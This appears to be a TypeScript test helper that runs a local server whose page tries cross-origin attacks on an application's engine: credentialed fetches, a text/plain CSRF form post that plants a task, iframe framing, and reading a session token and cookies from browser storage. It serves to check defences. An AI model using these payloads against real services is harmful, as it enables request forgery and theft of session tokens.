import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/** A server of another program on this machine, such as the development server of a change. */
export type OtherServer = {
  port: number;
  /** Every request with its headers and body, as text. */
  received: readonly string[];
  /** What its page could find out or do, once it has tried everything. */
  report: Promise<Record<string, string>>;
  close(): Promise<void>;
};

/** Starts a server whose page attacks the engine at this origin. */
export async function openOtherServer(engine: () => string): Promise<OtherServer> {
  const received: string[] = [];
  let tell: (report: Record<string, string>) => void = () => undefined;
  const report = new Promise<Record<string, string>>((resolve) => {
    tell = resolve;
  });
  const server = createServer(async (request, response) => {
    const pieces: Buffer[] = [];
    for await (const piece of request) pieces.push(piece);
    const body = Buffer.concat(pieces).toString("utf8");
    received.push([request.method, request.url, ...request.rawHeaders, body].join("\n"));
    response.setHeader("content-type", "text/html");
    response.end(request.url?.startsWith("/attack") === true ? attackPage(engine()) : "ok");
    if (request.url === "/report") tell(JSON.parse(body));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    ...{ port, received, report },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Tries to read the engine, to act in it and to frame it, with all credentials of the browser. */
function attackPage(engine: string): string {
  return `<!doctype html><script type="module">
const attempt = async (work) => { try { return await work(); } catch (error) { return "refused: " + error.name; } };
const task = JSON.stringify({ title: "Planted", repo: "shop" });
const send = (path, options) => fetch("${engine}" + path, { credentials: "include", ...options });
const frame = document.createElement("iframe");
frame.src = "${engine}/";
document.body.append(frame);
const form = document.createElement("form");
Object.assign(form, { method: "post", action: "${engine}/v1/tasks", enctype: "text/plain", target: "other" });
const other = Object.assign(document.createElement("iframe"), { name: "other" });
document.body.append(other, form);
form.submit();
const report = {
  read: await attempt(async () => (await send("/v1/me", {})).status),
  act: await attempt(async () => (await send("/v1/tasks", { method: "POST", body: task,
    headers: { "content-type": "application/json" } })).status),
  blind: await attempt(async () => (await send("/v1/tasks", { method: "POST", body: task, mode: "no-cors" })).type),
  frame: await attempt(async () => frame.contentWindow.document.title),
  storage: String(sessionStorage.getItem("countersign.token") ?? localStorage.getItem("countersign.token")),
  cookie: document.cookie,
};
await new Promise((resolve) => setTimeout(resolve, 300));
await fetch("/report", { method: "POST", body: JSON.stringify(report) });
</script><body>`;
}
